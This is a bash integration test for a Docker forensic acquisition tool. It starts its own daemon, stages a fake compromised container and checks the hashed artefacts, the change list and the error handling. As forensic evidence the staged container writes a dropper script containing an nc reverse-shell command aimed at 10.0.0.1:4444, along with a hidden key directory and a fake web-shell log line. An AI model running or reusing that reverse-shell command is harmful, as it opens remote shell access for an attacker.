#!/bin/bash
# Integration test of `dockscope-cli acquire` against a real Docker engine that this test starts
# itself (recipe: ../shared/docs/FORMATS.md): a base image made with `docker import`, a running
# container that adds, changes and deletes files and writes to both log streams; the acquisition
# is checked artefact by artefact against its manifest, then analysed and compared with the
# engine's /changes and with the same container read from the daemon's data root. Bad input: an
# unknown container, a socket that is not Docker, a full disk.
#
# Needs root and Debian's docker.io and busybox-static (scripts/deps.sh installs them). Where the
# daemon cannot start, the test FAILS with the reason; it never passes silently.
# Usage: acquire-live.sh DOCKSCOPE_CLI
set -euo pipefail
export LC_ALL=C TZ=UTC
CLI=${1:?usage: acquire-live.sh DOCKSCOPE_CLI}
fail() { echo "acquire-live: FAIL: $*" >&2; exit 1; }

[ "$(id -u)" = 0 ] || fail "needs root to start its own dockerd"
for t in dockerd containerd runc /usr/bin/docker python3 /bin/busybox mount; do
    command -v "$t" >/dev/null || fail "missing $t (install docker.io busybox-static: scripts/deps.sh)"
done

W=$(mktemp -d /tmp/dockscope-acquire.XXXXXX)
. "$(dirname "$0")/private-dockerd.sh"
FPID=
cleanup() {
    set +e
    [ -n "$FPID" ] && kill "$FPID" 2>/dev/null
    dockerd_stop
    chmod -R u+w "$W" 2>/dev/null
    rm -rf "$W"
}
trap cleanup EXIT

dockerd_start
echo "acquire-live: dockerd $(d version --format '{{.Server.Version}}') on $W/docker.sock"

# Base image from busybox, and the container under investigation.
R="$W/rootfs"
mkdir -p "$R"/{bin,etc,tmp,var/log}
cp /bin/busybox "$R/bin/busybox"
for c in sh cat echo ls rm sleep mkdir printf chmod; do ln -s busybox "$R/bin/$c"; done
echo 'root:x:0:0:root:/root:/bin/sh' >"$R/etc/passwd"
echo 'welcome' >"$R/etc/motd"
echo 'old' >"$R/tmp/gone.txt"
echo 'boot' >"$R/var/log/messages"
tar -C "$R" --numeric-owner -c . | d import - base:1 >/dev/null
d run -d --name victim --network none base:1 sh -c '
    echo "started"; echo "warning: on stderr" >&2
    printf "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n" >/tmp/dropper.sh; chmod 755 /tmp/dropper.sh
    echo "owned" >/etc/motd; rm /tmp/gone.txt; mkdir -p /var/tmp/.x; echo k >/var/tmp/.x/key
    echo "GET /shell.php 200" >>/var/log/messages
    echo ready; while true; do sleep 1; done' >/dev/null
for _ in $(seq 1 30); do d logs victim 2>/dev/null | grep -q ready && break; sleep 1; done
d logs victim | grep -q ready || fail "the container did not get ready"
ID=$(d inspect --format '{{.Id}}' victim)

# 1. Acquire.
ACQ="$W/acq"
"$CLI" acquire --host "unix://$W/docker.sock" --container victim --examiner "CI Examiner" \
    --paths /etc/motd,/var/log -o "$ACQ" >"$W/acquire.out" 2>"$W/acquire.err" \
    || { cat "$W/acquire.err" >&2; fail "acquire exited with $?"; }
d diff victim >"$W/docker-diff.txt"
d logs victim >"$W/docker-logs.out" 2>"$W/docker-logs.err"

# 2. Every artefact against the manifest; the manifest's SHA-256 is printed last.
python3 - "$ACQ" "$W/acquire.out" "$ID" "$W/docker-diff.txt" "$W/docker-logs.out" "$W/docker-logs.err" <<'PY'
import hashlib, json, os, stat, sys
acq, out, cid, diff, logout, logerr = sys.argv[1:]
def sha(p): return "sha256:" + hashlib.sha256(open(p, "rb").read()).hexdigest()
m = json.load(open(os.path.join(acq, "manifest.json")))
assert m["schema"] == "dockscope.acquisition/1", m["schema"]
assert m["status"] == "complete", m["status"]
assert m["examiner"] == "CI Examiner"
assert m["container"]["id"] == cid and m["container"]["running"] is True
roles = {a["role"] for a in m["artefacts"]}
for r in ["engine-info", "engine-version", "container-list", "container-inspect", "container-processes",
          "container-changes", "container-diff", "container-logs-stream", "container-logs", "container-path",
          "container-export", "image-inspect", "image-history", "image-save", "acquisition-log"]:
    assert r in roles, "missing artefact role " + r
listed = {"manifest.json", "manifest.json.sha256"}
for a in m["artefacts"]:
    p = os.path.join(acq, a["file"]); listed.add(a["file"])
    assert a["status"] == "ok", a
    assert os.path.getsize(p) == a["size"], a["file"]
    assert sha(p) == a["sha256"], a["file"]
    assert not os.stat(p).st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH), a["file"] + " is writable"
    assert a["started"].endswith("Z") and a["finished"] >= a["started"], a
    assert a["call"].startswith(("GET /v1.", "POST /v1.", "derived from ", "written by")), a["call"]
found = {os.path.relpath(os.path.join(r, f), acq) for r, _, fs in os.walk(acq) for f in fs}
assert found == listed, found ^ listed
last = open(out).read().strip().splitlines()[-1]
assert last == "Manifest SHA-256: " + sha(os.path.join(acq, "manifest.json")), last
assert open(os.path.join(acq, "manifest.json.sha256")).read().split()[0] == sha(os.path.join(acq, "manifest.json"))[7:]
# the changes in docker diff form are exactly what `docker diff` prints
mine = sorted(open(os.path.join(acq, cid + "-diff.txt")).read().splitlines())
theirs = sorted(open(diff).read().splitlines())
assert mine == theirs, (mine, theirs)
# the demultiplexed log has both streams, line for line as `docker logs`
recs = [json.loads(l) for l in open(os.path.join(acq, cid + "-json.log"))]
assert [r["log"] for r in recs if r["stream"] == "stdout"] == open(logout).read().splitlines(True)
assert [r["log"] for r in recs if r["stream"] == "stderr"] == open(logerr).read().splitlines(True)
assert all(r["time"].endswith("Z") for r in recs)
log = open(os.path.join(acq, "acquisition.log")).read()
assert "examiner: CI Examiner" in log and "/export -> " + cid + "-export.tar" in log
print("acquire-live: %d artefacts verified" % len(m["artefacts"]))
PY

# 3. The folder opens as evidence; its changes agree with /changes and with the data root.
"$CLI" analyze --json "$W/from-acq.json" "$ACQ" >/dev/null 2>"$W/analyze.err" || [ $? = 1 ] \
    || { cat "$W/analyze.err" >&2; fail "analyze of the acquisition failed"; }
"$CLI" analyze --json "$W/from-root.json" --container victim "$W/root" >/dev/null 2>>"$W/analyze.err" || [ $? = 1 ] \
    || { cat "$W/analyze.err" >&2; fail "analyze of the data root failed"; }
python3 - "$W/from-acq.json" "$W/from-root.json" "$W/docker-diff.txt" "$ID" <<'PY'
import json, sys
a, r, diff, cid = sys.argv[1:]
a, r = json.load(open(a)), json.load(open(r))
def container(d):
    cs = [c for c in d["containers"] if c["id"] == cid]
    assert len(cs) == 1, [c["id"] for c in d["containers"]]
    return cs[0]
ca, cr = container(a), container(r)
changes = lambda c: sorted((x["kind"], x["path"]) for x in c["changes"])
engine = sorted(tuple(l.split(" ", 1)) for l in open(diff).read().splitlines())
assert changes(ca) == engine, (changes(ca), engine)
assert changes(cr) == engine, (changes(cr), engine)
for k in ["name", "image", "imageId", "created", "running"]:
    assert ca[k] == cr[k], (k, ca[k], cr[k])
checks = [i for i in a["integrity"] if i["subject"].startswith("acquisition")]
assert checks and all(i["ok"] for i in checks), checks
rules = lambda d: sorted({f["rule"] for f in d["findings"] if f.get("container") == cid})
assert rules(a) == rules(r), (rules(a), rules(r))
print("acquire-live: analysis agrees with /changes and the data root (%d changes, rules %s)" % (len(engine), rules(a)))
PY

# 4. Bad input.
set +e
"$CLI" acquire --host "unix://$W/docker.sock" --container no-such-container -o "$W/bad1" >/dev/null 2>"$W/bad1.err"
rc=$?
set -e
[ $rc = 3 ] || fail "unknown container: exit $rc, expected 3"
grep -q 'No such container' "$W/bad1.err" || fail "unknown container: no clear message: $(cat "$W/bad1.err")"
grep -q '"status": "failed"' "$W/bad1/manifest.json" || fail "unknown container: the manifest does not say failed"

python3 - "$W/web.sock" <<'PY' &
import http.server, socketserver, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(404); self.send_header("Content-Length", "9"); self.end_headers(); self.wfile.write(b"not found")
    def log_message(self, *a): pass
class S(socketserver.UnixStreamServer):
    def get_request(self):
        req, _ = super().get_request(); return req, ("unix", 0)
S(sys.argv[1], H).serve_forever()
PY
FPID=$!
for _ in $(seq 1 50); do [ -S "$W/web.sock" ] && break; sleep 0.1; done
set +e
"$CLI" acquire --host "unix://$W/web.sock" --container victim -o "$W/bad2" >/dev/null 2>"$W/bad2.err"
rc=$?
set -e
[ $rc = 3 ] || fail "socket that is not Docker: exit $rc, expected 3"
grep -q 'is not a Docker Engine' "$W/bad2.err" || fail "not Docker: no clear message: $(cat "$W/bad2.err")"

# A full disk: a 3 MiB tmpfs holds the small artefacts but not the 2 MB export and image.
mkdir "$W/small"
mount -t tmpfs -o size=3m tmpfs "$W/small" || fail "cannot mount a tmpfs to fill up"
set +e
"$CLI" acquire --host "unix://$W/docker.sock" --container victim -o "$W/small/acq" >/dev/null 2>"$W/full.err"
rc=$?
set -e
[ $rc = 1 ] || { cat "$W/full.err" >&2; fail "full disk: exit $rc, expected 1 (partial)"; }
python3 - "$W/small/acq" <<'PY'
import json, os, sys
acq = sys.argv[1]
m = json.load(open(os.path.join(acq, "manifest.json")))
assert m["status"] == "partial", m["status"]
bad = [a for a in m["artefacts"] if a["status"] != "ok"]
assert bad and bad[0]["status"] == "incomplete" and "No space left" in bad[0]["error"], bad
for a in bad:
    if a["status"] == "incomplete":   # a partial file is kept, its size and hash say what is there
        assert os.path.getsize(os.path.join(acq, a["file"])) == a["size"]
    else:
        assert not os.path.exists(os.path.join(acq, a["file"])), a["file"]
log = open(os.path.join(acq, "acquisition.log")).read()
assert "INCOMPLETE" in log and "disk of the acquisition folder is full" in log, log[-800:]
print("acquire-live: full disk leaves a partial acquisition with its manifest and log (%d steps not ok)" % len(bad))
PY
echo "acquire-live: PASS"
